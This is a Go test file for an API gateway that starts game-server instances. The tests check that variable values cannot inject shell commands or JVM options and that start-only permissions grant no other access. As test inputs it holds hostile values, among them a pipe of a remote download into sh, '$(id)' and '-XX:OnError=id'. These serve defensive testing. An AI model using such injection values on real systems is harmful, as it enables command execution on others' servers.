package apigateway

import (
	"slices"
	"strings"
	"testing"

	"github.com/orreryhq/orrery/apigateway/internal/auth"
	"github.com/orreryhq/orrery/libs/fleet/account"
	"github.com/orreryhq/orrery/libs/fleet/content"
)

// startWith starts an instance with one value.
func (s *site) startWith(key, value string) *reply {
	s.t.Helper()
	return s.do("POST", "/api/v1/groups/lobby/start", map[string]any{"variables": map[string]string{key: value}})
}

func TestOnlyDeclaredVariablesAreGivenAtStart(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.group("lobby", map[string]any{"command": `java -Dmotd="%motd%" -jar server.jar %text%`, "variableValues": map[string]string{"free": "x"}, "maxInstances": 100})
	declared := []content.Variable{
		{Key: "motd", Type: content.VariableString, Scope: content.ScopeInstance},
		{Key: "text", Type: content.VariableText, Scope: content.ScopeInstance},
		{Key: "group", Type: content.VariableString, Scope: content.ScopeGroup},
		secretVariable("pw", content.ScopeInstance),
	}
	s.startWith("any", "x").want(422).naming("variables.any") // also without declared variables
	s.defining("lobby", declared...)
	before := s.revision()
	for _, c := range []struct{ key, value string }{
		{"PORT", "x; curl http://host | sh"},
		{"PORT_QUERY", "1"},
		{"INSTANCE_NAME", "x"},
		{"any", "x"},
		{"free", "y"},
		{"group", "x"},
		{"motd", "a\nb"},
		{"motd", "a\rb"},
		{"motd", "a\x1bb"},
		{"motd", "a\u2028b"},
		{"motd", "a\u0085b"},
		{"motd", "a\x00b"},
		{"text", "a\x00b"},
		{"text", "a\x1bb"},
		{"pw", "a\nb"},
		{"motd", strings.Repeat("x", 64<<10)},
		{"text", strings.Repeat("x", 64<<10)},
		{"text", "-XX:OnError=id"},
	} {
		s.startWith(c.key, c.value).want(422).naming("variables")
	}
	if keys := s.moved(before); len(keys) > 0 {
		t.Errorf("a refused start wrote something: %v", keys)
	}
	for _, value := range []string{`it's "fine"`, "$(id) `id` ; | & > <", "%", "%%", "%PORT%", "%group%", `\`, "", "ünï ✓", "a\nb"} {
		key := "motd"
		if strings.Contains(value, "\n") {
			key = "text"
		}
		list, _ := s.startWith(key, value).want(200).field("instances").([]any)
		one, _ := list[0].(map[string]any)
		name, _ := one["id"].(string)
		if i, ok := s.view.Snapshot().Find(name); !ok || i.Intent.Values[key] != value {
			t.Errorf("%s is started with %q, want %q", name, i.Intent.Values, value)
		}
	}
}

func TestAStartIsRefusedWhereAValueWouldBeCode(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.group("lobby", map[string]any{"maxInstances": 100})
	s.defining("lobby", content.Variable{Key: "X", Type: content.VariableString, Scope: content.ScopeInstance})
	for _, c := range []struct {
		says  string
		group map[string]any
		value string
	}{
		{"bash", map[string]any{"command": `bash -c 'java %X%'`}, "x"},
		{"eval", map[string]any{"command": `eval java %X%`}, "x"},
		{"here-document", map[string]any{"command": "java <<E\n%X%\nE\n"}, "x"},
		{"BASH_ENV", map[string]any{"command": "java", "env": map[string]string{"BASH_ENV": "%X%"}}, "x"},
		{"option of java", map[string]any{"command": "", "env": map[string]any{"BASH_ENV": nil}, "jarFile": "s.jar", "jvmArgs": []string{"-X%X%"}}, "-Xint"},
		{"must not begin with -", map[string]any{"jvmArgs": []string{"%X%"}}, "-Xint"},
		{"option of java", map[string]any{"jvmArgs": []string{"-XX:OnError=%X%"}}, "x"},
		{"hostAddress", map[string]any{"command": "java", "jvmArgs": []string{}, "hostAddress": "%X%.example.com"}, "a b"},
		{"container.image", map[string]any{"command": "java", "hostAddress": "", "runtime": "docker", "container": map[string]any{"image": "games/%X%"}}, "a b"},
	} {
		s.do("PATCH", "/api/v1/groups/lobby", c.group).want(200)
		s.startWith("X", c.value).want(422).naming("variables.X").naming(c.says)
		s.do("POST", "/api/v1/groups/lobby/start?dryRun=true", map[string]any{"variables": map[string]string{"X": c.value}}).want(422)
	}
	s.do("PATCH", "/api/v1/groups/lobby", map[string]any{"command": "", "runtime": "process", "container": nil, "jvmArgs": []string{"-Dmotd=a %X% b"}}).want(200)
	s.startWith("X", "$(id)").want(200)
}

func TestWhoMayOnlyStartReachesNothingElse(t *testing.T) {
	t.Parallel()
	s := &holding{newSite(t), map[string]*site{}}
	s.group("lobby", map[string]any{"command": "./run %X%"})
	s.defining("lobby", content.Variable{Key: "X", Type: content.VariableString, Scope: content.ScopeInstance}, secretVariable("pw", content.ScopeInstance))
	may := []account.Permission{auth.GroupsStart}
	starter := s.of(may)
	starter.startWith("PORT", "x; id").want(422)
	starter.startWith("pw", "secret:db").want(403)
	starter.startWith("X", "$(id)").want(200)
	for _, r := range s.routes() {
		wanted := r.Demand.Permissions()
		beyond := slices.ContainsFunc(wanted, func(p account.Permission) bool { return !slices.Contains(may, p) })
		if !beyond {
			continue
		}
		path := strings.NewReplacer(":group", "x", ":name", "lobby", ":id", "lobby-1", "*path", "x", ":hash", "x", ":platform", "x", ":version", "x").Replace(r.Path)
		if got := starter.do(r.Method, path, "{}"); got.status != 403 {
			t.Errorf("%s %s: %d %s", r.Method, path, got.status, got.raw)
		}
	}
}
